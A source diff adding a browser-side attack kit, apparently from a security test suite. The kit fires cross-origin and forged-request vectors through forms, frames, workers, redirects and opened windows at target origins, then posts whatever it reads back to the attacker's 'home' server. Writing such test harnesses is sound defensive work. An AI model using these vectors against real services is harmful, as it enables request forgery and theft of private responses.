@@ -1,0 +1,221 @@
+// Runs in the attacking pages: what their vectors have in common. A vector is an expression over `aim`; what it resolves
+// to is what the page could read of the answer.
+
+const kitText = document.currentScript.textContent;
+const patienceMs = 5000;
+
+Object.assign(globalThis, {
+  attack,
+  inside,
+  textOf,
+  ask,
+  element,
+  track,
+  style,
+  submit,
+  submitIntoFrame,
+  lookInto,
+});
+Object.assign(globalThis, { listen, inFrame, inWorker, inSharedWorker, inServiceWorker, click, goBackTo });
+
+async function attack({ page, home, targets, scriptId, shots }) {
+  const over = [];
+  for (const [target, origin] of Object.entries(targets)) {
+    for (const [vector, fire] of Object.entries(shots)) {
+      const aim = aimOf({ vector, target, origin, home, scriptId });
+      over.push(settled(() => fire(aim)).then((read) => ({ vector, target, read: String(read ?? '') })));
+    }
+  }
+  const reads = await Promise.all(over);
+  await fetch(`${home}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ page, reads }) });
+}
+
+function aimOf(given) {
+  const { vector, origin, home, scriptId } = given;
+  /** An address at the target that names the vector; `host` is another spelling of its host. */
+  function at(path, host) {
+    const { port } = new URL(origin);
+    return `${host === undefined ? origin : `http://${host}:${port}`}${path}?vector=${vector}`;
+  }
+  return {
+    ...given,
+    at,
+    /** An address of the attacker that redirects to the target. */
+    via: (status, path) => `${home}/redirect/${status}?to=${encodeURIComponent(at(path))}`,
+    /** The fields that run a script. */
+    fields: { script_id: scriptId },
+    body: new URLSearchParams({ script_id: scriptId }),
+    json: JSON.stringify({ script_id: scriptId }),
+  };
+}
+
+/** What became of it; nothing when it failed, or when it never ends. */
+function settled(start) {
+  const enough = new Promise((resolve) => setTimeout(resolve, patienceMs, ''));
+  return Promise.race([new Promise((resolve) => resolve(start())).catch(() => ''), enough]);
+}
+
+function textOf(response) {
+  return response.text();
+}
+
+function ask(method, url, body, headers = {}) {
+  return new Promise((resolve) => {
+    const request = new XMLHttpRequest();
+    request.open(method, url);
+    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
+    request.onloadend = () => resolve(request.responseText);
+    request.send(body);
+  });
+}
+
+/** Puts an element into the page and waits until it has loaded something or nothing. */
+function element(name, attributes, parent = document.body) {
+  const made = document.createElement(name);
+  const over = new Promise((resolve) => {
+    for (const event of ['load', 'error', 'loadedmetadata']) made.addEventListener(event, () => resolve());
+  });
+  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
+  parent.append(made);
+  return over.then(() => documentTextOf(made));
+}
+
+function documentTextOf(made) {
+  return made.contentDocument?.body?.innerText ?? '';
+}
+
+function track(attributes) {
+  const video = document.createElement('video');
+  video.crossOrigin = 'anonymous';
+  document.body.append(video);
+  const over = element('track', { kind: 'metadata', ...attributes }, video);
+  video.textTracks[0].mode = 'hidden';
+  return over;
+}
+
+function style(text) {
+  const made = document.createElement('style');
+  made.textContent = text;
+  document.head.append(made);
+}
+
+/** Submits a form; the page itself goes where it leads, unless a target is given. */
+function submit(attributes, fields) {
+  const form = document.createElement('form');
+  for (const [key, value] of Object.entries({ method: 'post', ...attributes })) form.setAttribute(key, value);
+  for (const [name, value] of Object.entries(fields)) {
+    const input = document.createElement('input');
+    Object.assign(input, { type: 'hidden', name, value });
+    form.append(input);
+  }
+  document.body.append(form);
+  form.submit();
+}
+
+function submitIntoFrame(attributes, fields) {
+  const frame = document.createElement('iframe');
+  frame.name = `frame-${Math.random()}`;
+  document.body.append(frame);
+  // Only now: an empty frame has loaded already when it is in the page.
+  const over = new Promise((resolve) => frame.addEventListener('load', () => resolve()));
+  submit({ ...attributes, target: frame.name }, fields);
+  return over.then(() => documentTextOf(frame));
+}
+
+/** Waits until a window shows a page of another origin, and tries to look into it. */
+async function lookInto(opened) {
+  while (isOurs(opened)) await new Promise((resolve) => setTimeout(resolve, 10));
+  return opened.document.body.innerText;
+}
+
+function isOurs(opened) {
+  try {
+    return opened.location.href === 'about:blank';
+  } catch {
+    return false;
+  }
+}
+
+function listen(source) {
+  return new Promise((resolve) => {
+    source.onopen = () => resolve('opened');
+    source.onmessage = ({ data }) => resolve(data);
+    source.onerror = () => {
+      source.close();
+      resolve('');
+    };
+  });
+}
+
+/** Runs the text of a function in a frame: `srcdoc`, `data` or `blob`, with or without a sandbox. */
+function inFrame({ kind, sandbox }, { vector, target, origin, home, scriptId }, fire) {
+  const given = { vector, target, origin, home, scriptId };
+  const text = `<body><script>${kitText}</${'script'}><script>inside(${JSON.stringify(given)}, ${fire})</${'script'}>`;
+  const frame = document.createElement('iframe');
+  if (sandbox !== undefined) frame.setAttribute('sandbox', sandbox);
+  if (kind === 'srcdoc') frame.srcdoc = text;
+  else if (kind === 'data') frame.src = `data:text/html;charset=utf-8,${encodeURIComponent(text)}`;
+  else frame.src = URL.createObjectURL(new Blob([text], { type: 'text/html' }));
+  const over = new Promise((resolve) => {
+    let loads = 0;
+    frame.onload = () => {
+      loads++;
+      // The second time it is what a form inside it led to.
+      if (loads === 2) resolve(documentTextOf(frame));
+    };
+    addEventListener('message', ({ source, data }) => {
+      if (source === frame.contentWindow) resolve(data);
+    });
+  });
+  document.body.append(frame);
+  return over;
+}
+
+async function inside(given, fire) {
+  // A form that is sent before the frame has loaded takes the place of that load, and there would be none to wait for.
+  await new Promise((resolve) => addEventListener('load', () => setTimeout(resolve)));
+  const read = await settled(() => fire(aimOf(given)));
+  if (read !== undefined) parent.postMessage(read, '*');
+}
+
+/** Runs the text of a function over an address in a worker. */
+function inWorker(fire, url) {
+  const text = `Promise.resolve((${fire})(${JSON.stringify(url)})).catch(() => '').then((read) => postMessage(read))`;
+  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
+  return new Promise((resolve) => {
+    worker.onmessage = ({ data }) => resolve(data);
+    worker.onerror = () => resolve('');
+  });
+}
+
+function inSharedWorker(aim, url) {
+  const { port } = new SharedWorker(`${aim.home}/shared-worker.js`);
+  return new Promise((resolve) => {
+    port.onmessage = ({ data }) => resolve(data);
+    port.postMessage(url);
+  });
+}
+
+async function inServiceWorker(url) {
+  const { installing, active } = await navigator.serviceWorker.register('/service-worker.js');
+  const { port1, port2 } = new MessageChannel();
+  (active ?? installing).postMessage(url, [port2]);
+  return new Promise((resolve) => {
+    port1.onmessage = ({ data }) => resolve(data);
+  });
+}
+
+/** Visits an address in a window of its own, and lets a page of the attacker go back to it. */
+async function goBackTo(url, home) {
+  const opened = open(url);
+  while (isOurs(opened)) await new Promise((resolve) => setTimeout(resolve, 10));
+  opened.location = `${home}/back`;
+}
+
+/** Clicks a link. */
+function click(attributes) {
+  const link = document.createElement('a');
+  for (const [key, value] of Object.entries(attributes)) link.setAttribute(key, value);
+  document.body.append(link);
+  link.click();
+}
